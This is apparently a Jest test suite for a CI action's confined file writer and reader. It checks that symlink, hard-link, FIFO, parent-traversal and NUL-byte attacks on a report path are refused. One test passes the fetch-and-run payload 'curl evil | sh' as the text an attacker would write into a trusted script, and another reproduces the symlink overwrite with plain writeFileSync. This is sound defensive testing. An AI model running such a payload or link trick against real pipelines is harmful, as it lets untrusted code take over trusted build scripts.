// Issue 17, defect 1: the JSON report followed links the pull request controls. Each attack is
// reproduced on a real file system: the write is refused in one line and nothing outside the
// working directory changes.
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import {
  confinedTargetProblem,
  readFileConfined,
  writeFileConfined
} from '../../src/report/confined-file.js'

let tmp: string

beforeEach(() => {
  tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'rg-write-')))
})
afterEach(() => {
  fs.rmSync(tmp, { recursive: true, force: true })
})

function write(boundary: string, relative: string, contents = '{"report":true}\n') {
  return writeFileConfined(
    { boundary, file: path.resolve(boundary, relative), input: 'report-path' },
    contents
  )
}

function expectRefused(outcome: ReturnType<typeof write>, pattern: RegExp): void {
  expect(outcome).toHaveProperty('error')
  const message = (outcome as { error: string }).error
  expect(message).toMatch(pattern)
  expect(message).toContain("'report-path'")
  expect(message).not.toMatch(/[\r\n]/)
}

/** Every name in a directory tree, to show that nothing else appeared (no temp files left). */
function tree(dir: string): string[] {
  return fs.readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort()
}

describe('writeFileConfined: the attacks of issue 17', () => {
  test('a dangling link readiness-report.json -> <tmp>/OUTSIDE.json is refused and OUTSIDE.json is never created', () => {
    const work = path.join(tmp, 'work')
    fs.mkdirSync(work)
    const outsideFile = path.join(tmp, 'OUTSIDE.json')
    fs.symlinkSync(outsideFile, path.join(work, 'readiness-report.json'))

    expectRefused(write(work, 'readiness-report.json'), /is a symbolic link/)
    expect(fs.existsSync(outsideFile)).toBe(false)
    // What the action did before (writeFileSync) falls for it: the attack is real.
    const copy = path.join(tmp, 'copy')
    fs.mkdirSync(copy)
    fs.symlinkSync(path.join(tmp, 'OUTSIDE-2.json'), path.join(copy, 'readiness-report.json'))
    fs.writeFileSync(path.join(copy, 'readiness-report.json'), '{}')
    expect(fs.existsSync(path.join(tmp, 'OUTSIDE-2.json'))).toBe(true)
    expect(fs.readlinkSync(path.join(work, 'readiness-report.json'))).toBe(outsideFile)
    expect(tree(work)).toEqual(['readiness-report.json'])
    // The settings-time check says the same before anything runs.
    expect(
      confinedTargetProblem({
        boundary: work,
        file: path.join(work, 'readiness-report.json'),
        input: 'report-path'
      })
    ).toMatch(/is a symbolic link/)
  })

  test('two checkouts: pr/readiness-report.json -> ../ci/post-gate.sh does not overwrite the trusted script', () => {
    const ci = path.join(tmp, 'ci')
    const pr = path.join(tmp, 'pr')
    fs.mkdirSync(ci)
    fs.mkdirSync(pr)
    const script = path.join(ci, 'post-gate.sh')
    fs.writeFileSync(script, '#!/bin/sh\necho trusted\n', { mode: 0o755 })
    fs.symlinkSync('../ci/post-gate.sh', path.join(pr, 'readiness-report.json'))

    expectRefused(write(pr, 'readiness-report.json', 'curl evil | sh\n'), /is a symbolic link/)
    expect(fs.readFileSync(script, 'utf8')).toBe('#!/bin/sh\necho trusted\n')
    // The working directory is the boundary, not the workspace holding both checkouts.
    expectRefused(write(pr, '../ci/post-gate.sh'), /not a file inside the working directory/)
    expect(fs.readFileSync(script, 'utf8')).toBe('#!/bin/sh\necho trusted\n')
  })

  test('a link to a file inside the working directory is refused too (never written through)', () => {
    fs.writeFileSync(path.join(tmp, 'Cargo.toml'), '[package]\n')
    fs.symlinkSync('Cargo.toml', path.join(tmp, 'readiness-report.json'))
    expectRefused(write(tmp, 'readiness-report.json'), /is a symbolic link/)
    expect(fs.readFileSync(path.join(tmp, 'Cargo.toml'), 'utf8')).toBe('[package]\n')
  })

  test('a directory named readiness-report.json is refused in one line', () => {
    fs.mkdirSync(path.join(tmp, 'readiness-report.json'))
    expectRefused(write(tmp, 'readiness-report.json'), /is a directory/)
  })

  test('a FIFO at the path is refused (a reader could block the action or read the report)', () => {
    execFileSync('mkfifo', [path.join(tmp, 'readiness-report.json')])
    expectRefused(write(tmp, 'readiness-report.json'), /is not a regular file/)
  })

  test('a parent directory that is a link out of the working directory is refused; nothing is created outside', () => {
    const work = path.join(tmp, 'work')
    const elsewhere = path.join(tmp, 'elsewhere')
    fs.mkdirSync(work)
    fs.mkdirSync(elsewhere)
    fs.symlinkSync(elsewhere, path.join(work, 'out'))
    expectRefused(
      write(work, 'out/sub/report.json'),
      /leads through a symbolic link to .+elsewhere/
    )
    expect(tree(elsewhere)).toEqual([])
  })

  test('a hard link at the path is replaced, not written through: the other name keeps its text', () => {
    const work = path.join(tmp, 'work')
    fs.mkdirSync(work)
    const trusted = path.join(tmp, 'trusted.sh')
    fs.writeFileSync(trusted, 'echo trusted\n')
    fs.linkSync(trusted, path.join(work, 'readiness-report.json'))
    expect(write(work, 'readiness-report.json', 'report\n')).toEqual({
      written: path.join(work, 'readiness-report.json')
    })
    expect(fs.readFileSync(trusted, 'utf8')).toBe('echo trusted\n')
    expect(fs.readFileSync(path.join(work, 'readiness-report.json'), 'utf8')).toBe('report\n')
  })
})

describe('writeFileConfined: ordinary writes', () => {
  test('creates the file and its folders, then replaces it, leaving no temporary file', () => {
    expect(write(tmp, 'nested/deeper/report.json', 'one\n')).toEqual({
      written: path.join(tmp, 'nested', 'deeper', 'report.json')
    })
    expect(write(tmp, 'nested/deeper/report.json', 'two\n')).toHaveProperty('written')
    expect(fs.readFileSync(path.join(tmp, 'nested/deeper/report.json'), 'utf8')).toBe('two\n')
    expect(tree(tmp)).toEqual(['nested', 'nested/deeper', 'nested/deeper/report.json'])
  })

  test('a folder that is a link inside the working directory is followed to its real place', () => {
    fs.mkdirSync(path.join(tmp, 'reports'))
    fs.symlinkSync('reports', path.join(tmp, 'latest'))
    expect(write(tmp, 'latest/r.json', 'x')).toHaveProperty('written')
    expect(fs.readFileSync(path.join(tmp, 'reports', 'r.json'), 'utf8')).toBe('x')
  })

  test('a folder that is a file, and a NUL byte, are one-line refusals', () => {
    fs.writeFileSync(path.join(tmp, 'file'), '')
    expectRefused(write(tmp, 'file/r.json'), /needs .+file' to be a directory/)
    expectRefused(write(tmp, 'a\0b.json'), /NUL byte/)
  })

  test('a write that fails (no working directory) gives one line naming the input and the fix', () => {
    const gone = path.join(tmp, 'gone\nline')
    expectRefused(
      write(gone, 'r.json'),
      /Cannot write 'report-path' .+ENOENT.+point 'report-path' at a writable file/
    )
    expect(tree(tmp)).toEqual([])
  })
})

describe('the primitive the write relies on', () => {
  test('rename(2) over a symbolic link replaces the link itself and leaves its target alone', () => {
    const target = path.join(tmp, 'target.sh')
    fs.writeFileSync(target, 'echo trusted\n')
    fs.symlinkSync(target, path.join(tmp, 'link'))
    fs.writeFileSync(path.join(tmp, 'new'), 'report\n')
    fs.renameSync(path.join(tmp, 'new'), path.join(tmp, 'link'))
    expect(fs.lstatSync(path.join(tmp, 'link')).isFile()).toBe(true)
    expect(fs.readFileSync(target, 'utf8')).toBe('echo trusted\n')
  })

  test('O_CREAT|O_EXCL|O_NOFOLLOW refuses a dangling link instead of creating its target', () => {
    const outsideFile = path.join(tmp, 'OUTSIDE.json')
    fs.symlinkSync(outsideFile, path.join(tmp, 'tmpname'))
    const flags =
      fs.constants.O_WRONLY | fs.constants.O_CREAT | fs.constants.O_EXCL | fs.constants.O_NOFOLLOW
    expect(() => fs.openSync(path.join(tmp, 'tmpname'), flags)).toThrow(/EEXIST|ELOOP/)
    expect(fs.existsSync(outsideFile)).toBe(false)
  })
})

function problem(boundary: string, relative: string): string | null {
  return confinedTargetProblem({
    boundary,
    file: path.resolve(boundary, relative),
    input: 'report-path'
  })
}

function read(boundary: string, relative: string, maxBytes = 1024) {
  return readFileConfined(
    { boundary, file: path.resolve(boundary, relative), input: 'report-from' },
    maxBytes
  )
}

function expectReadRefused(outcome: ReturnType<typeof read>, pattern: RegExp): void {
  expect(outcome).not.toHaveProperty('text')
  const message = (outcome as { error: string }).error
  expect(message).toMatch(pattern)
  expect(message).toContain("'report-from'")
  expect(message).not.toMatch(/[\r\n]/)
}

/** The descriptors this process holds (Linux): a refusal or a read must not leak one. */
function openDescriptors(): number {
  return fs.readdirSync('/proc/self/fd').length
}

const onLinux = process.platform === 'linux' ? test : test.skip

describe('confinedTargetProblem: the check Settings runs before anything', () => {
  test('a path outside the working directory, or the working directory itself, is refused as such', () => {
    const work = path.join(tmp, 'work')
    fs.mkdirSync(work)
    fs.writeFileSync(path.join(tmp, 'outside.json'), '')
    expect(problem(work, '../outside.json')).toMatch(/not a file inside the working directory/)
    expect(problem(work, '.')).toMatch(/not a file inside the working directory/)
    expect(problem(work, 'a\0b.json')).toMatch(/contains a NUL byte/)
  })

  test('real folders, missing folders (made at write time) and a link to a folder inside pass', () => {
    fs.mkdirSync(path.join(tmp, 'nested', 'deeper'), { recursive: true })
    fs.symlinkSync('nested', path.join(tmp, 'latest'))
    expect(problem(tmp, 'r.json')).toBeNull()
    expect(problem(tmp, 'nested/deeper/r.json')).toBeNull()
    expect(problem(tmp, 'nested/new/newer/r.json')).toBeNull()
    expect(problem(tmp, 'latest/deeper/r.json')).toBeNull()
    // A working directory that does not exist is its own input's problem, not this one's.
    expect(problem(path.join(tmp, 'gone'), 'sub/r.json')).toBeNull()
  })

  test('a folder that is a link out, a dangling link, or a link to exactly the parent is refused, naming where it leads', () => {
    const work = path.join(tmp, 'work')
    const elsewhere = path.join(tmp, 'elsewhere')
    fs.mkdirSync(path.join(work, 'inside'), { recursive: true })
    fs.mkdirSync(elsewhere)
    fs.symlinkSync(elsewhere, path.join(work, 'inside', 'out'))
    fs.symlinkSync(path.join(tmp, 'nowhere'), path.join(work, 'dangling'))
    fs.symlinkSync('..', path.join(work, 'up'))
    expect(problem(work, 'inside/out/sub/r.json')).toBe(
      `Input 'report-path' ('${path.join(work, 'inside/out/sub/r.json')}') leads through a symbolic link to '${elsewhere}', outside the working directory; point 'report-path' at a file inside it.`
    )
    expect(problem(work, 'dangling/r.json')).toContain(
      `leads through a symbolic link to '${path.join(work, 'dangling')}', outside`
    )
    // path.relative gives exactly '..' here: no '../' prefix to catch it by.
    expect(problem(work, 'up/r.json')).toContain(
      `leads through a symbolic link to '${tmp}', outside`
    )
    expect(tree(elsewhere)).toEqual([])
  })

  test('a folder that is a file is refused by name', () => {
    fs.mkdirSync(path.join(tmp, 'a'))
    fs.writeFileSync(path.join(tmp, 'a', 'plain'), '')
    expect(problem(tmp, 'a/plain/r.json')).toBe(
      `Input 'report-path' ('${path.join(tmp, 'a/plain/r.json')}') needs '${path.join(tmp, 'a', 'plain')}' to be a directory; point 'report-path' at another path.`
    )
  })
})

describe('readFileConfined: what an untrusted artifact cannot make the gate read', () => {
  test('a folder that is a link out of the working directory: refused, the outside text never returned', () => {
    const work = path.join(tmp, 'work')
    const elsewhere = path.join(tmp, 'elsewhere')
    fs.mkdirSync(work)
    fs.mkdirSync(elsewhere)
    fs.writeFileSync(path.join(elsewhere, 'secret.json'), '{"token":"s3cr3t"}')
    fs.writeFileSync(path.join(tmp, 'secret.json'), '{"token":"s3cr3t"}')
    fs.symlinkSync(elsewhere, path.join(work, 'out'))
    fs.symlinkSync('..', path.join(work, 'up'))
    expectReadRefused(
      read(work, 'out/secret.json'),
      new RegExp(`leads through a symbolic link to '${elsewhere}', outside the working directory`)
    )
    // A link to exactly the parent (path.relative gives '..', not '../…').
    expectReadRefused(
      read(work, 'up/secret.json'),
      new RegExp(`leads through a symbolic link to '${tmp}', outside the working directory`)
    )
  })

  test('a path outside, the working directory itself and a NUL byte are refused before any look at the disk', () => {
    const work = path.join(tmp, 'work')
    fs.mkdirSync(work)
    fs.writeFileSync(path.join(tmp, 'secret.json'), '{}')
    expectReadRefused(read(work, '../secret.json'), /is not a file inside the working directory/)
    expectReadRefused(read(work, '.'), /is not a file inside the working directory/)
    expectReadRefused(read(work, 'a\0b.json'), /contains a NUL byte/)
  })

  test('a FIFO (which would block the read), a dangling link and a folder that is a file are refused', () => {
    execFileSync('mkfifo', [path.join(tmp, 'fifo.json')])
    fs.symlinkSync(path.join(tmp, 'nowhere.json'), path.join(tmp, 'dangling.json'))
    fs.writeFileSync(path.join(tmp, 'plain'), '')
    expectReadRefused(read(tmp, 'fifo.json'), /\) is not a regular file/)
    expectReadRefused(read(tmp, 'dangling.json'), /is a symbolic link/)
    expect(fs.existsSync(path.join(tmp, 'nowhere.json'))).toBe(false)
    expect(read(tmp, 'plain/r.json')).toEqual({
      error: `Input 'report-from' ('${path.join(tmp, 'plain/r.json')}') needs '${path.join(tmp, 'plain')}' to be a directory; point 'report-from' at another path.`
    })
  })

  onLinux(
    'a file holding more than its size said when opened (/proc/self/status says 0 bytes) is refused',
    () => {
      // Stands for a file that grows while it is read: the read goes one byte past the size fstat
      // gave, and that byte refuses it.
      const proc = fs.realpathSync('/proc/self')
      expect(fs.statSync(path.join(proc, 'status')).size).toBe(0)
      expectReadRefused(read(proc, 'status', 1024), /is larger than 0 bytes \(1\)/)
    }
  )
})

describe('no descriptor is left open', () => {
  onLinux('after reads and writes, refused or not', () => {
    fs.writeFileSync(path.join(tmp, 'ok.json'), '{}')
    fs.writeFileSync(path.join(tmp, 'big.json'), 'x'.repeat(2000))
    fs.writeFileSync(path.join(tmp, 'latin1.json'), Buffer.from([0x7b, 0xe9, 0x7d]))
    fs.symlinkSync('ok.json', path.join(tmp, 'link.json'))
    const before = openDescriptors()
    expect(read(tmp, 'ok.json')).toEqual({ text: '{}' })
    expect(read(tmp, 'big.json')).toHaveProperty('error')
    expect(read(tmp, 'latin1.json')).toHaveProperty('error')
    expect(write(tmp, 'out/r.json')).toHaveProperty('written')
    expect(write(tmp, 'link.json')).toHaveProperty('error')
    expect(openDescriptors()).toBe(before)
  })

  test('a failed write names the system reason unquoted', () => {
    const outcome = write(path.join(tmp, 'gone'), 'r.json')
    expectRefused(outcome, /\): (Error: )?ENOENT: no such file or directory/)
  })
})
